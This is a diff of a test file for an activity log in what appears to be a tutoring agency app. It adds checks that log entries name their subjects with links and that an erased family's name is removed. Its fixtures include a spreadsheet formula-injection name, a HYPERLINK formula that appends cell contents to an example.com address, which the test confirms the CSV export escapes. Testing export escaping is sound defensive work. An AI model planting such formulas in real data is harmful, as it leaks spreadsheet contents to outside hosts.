@@ -12,6 +12,7 @@ describe('activity log (real PostgreSQL)', () => {
   let tutor: string;
   let auditorId = '';
   let tutorId = '';
+  const named = { family: '', erased: '', engagement: '' };
   /** A user whose name a spreadsheet would run as a formula. */
   const formulaName = '=HYPERLINK("https://example.com/?"&A1,"Open")';
   const today = todayIn('Europe/London', new Date());
@@ -45,8 +46,12 @@ describe('activity log (real PostgreSQL)', () => {
     const formula = product.api(await product.login('formula', password));
     await formula.post('/api/clients/contact', contact('Fay', 'Formula'));
     // More commands than a small page holds, one of them (new rates and subjects) of two events.
-    for (const name of ['Ann', 'Bob', 'Cat', 'Dee']) await api.post('/api/clients/contact', contact(name, 'Paged'));
+    for (const name of ['Ann', 'Bob', 'Cat', 'Dee']) {
+      const made = await api.post('/api/clients/contact', contact(name, 'Paged'));
+      if (name === 'Ann') named.erased = made.client.id;
+    }
     const { client } = await api.post('/api/clients/contact', contact('Pat', 'Paged'));
+    named.family = client.id;
     const { child } = await api.post(`/api/clients/child/${client.id}`, {
       firstName: 'Kid',
       lastName: 'Paged',
@@ -59,6 +64,7 @@ describe('activity log (real PostgreSQL)', () => {
       startDate: '2024-09-01',
       subjects: ['Maths'],
     });
+    named.engagement = engagement.id;
     await api.post('/api/tutors/engagement', {
       ...terms,
       id: engagement.id,
@@ -194,5 +200,35 @@ describe('activity log (real PostgreSQL)', () => {
     expect(given).toBeDefined();
     const line = csv.split('\r\n').find((text) => text.endsWith(`,"${given?.commandId}"`));
     expect(line).toContain(`,"'=HYPERLINK(""https://example.com/?""&A1,""Open"")","admin",`);
+  });
+
+  it('names what each command is about from the read models, with a link to its page; an erased family reads Erased', async () => {
+    await product
+      .api(admin)
+      .post(`/api/clients/erase/${named.erased}`, { reason: 'Asked by the family', confirm: true });
+    const commands = (await allPages(500)).flatMap((page) => page.commands);
+    const about = (streamId: string) =>
+      commands.flatMap((entry) => entry.subjects).find((subject) => subject.streamId === streamId);
+    expect(about(`tutor-${tutorId}`)).toEqual({
+      streamId: `tutor-${tutorId}`,
+      kind: 'Tutor',
+      name: 'Lou Log',
+      path: `/tutor/${tutorId}`,
+    });
+    expect(about(`client-${named.family}`)).toMatchObject({
+      kind: 'Family',
+      name: 'Pat Paged',
+      path: `/client/${named.family}`,
+    });
+    expect(about(`engagement-${named.engagement}`)).toMatchObject({
+      kind: 'Engagement',
+      name: 'Kid Paged with Lou Log',
+      path: `/engagement/detail/${tutorId}/${named.engagement}`,
+    });
+    expect(about(`client-${named.erased}`)).toMatchObject({ kind: 'Family', name: 'Erased' });
+    // Every entry names each of its streams, in their order.
+    for (const entry of commands) expect(entry.subjects.map((subject) => subject.streamId)).toEqual(entry.streams);
+    // The erased family's name is in no entry of the log any more.
+    expect(JSON.stringify(commands)).not.toContain('Ann Paged');
   });
 });
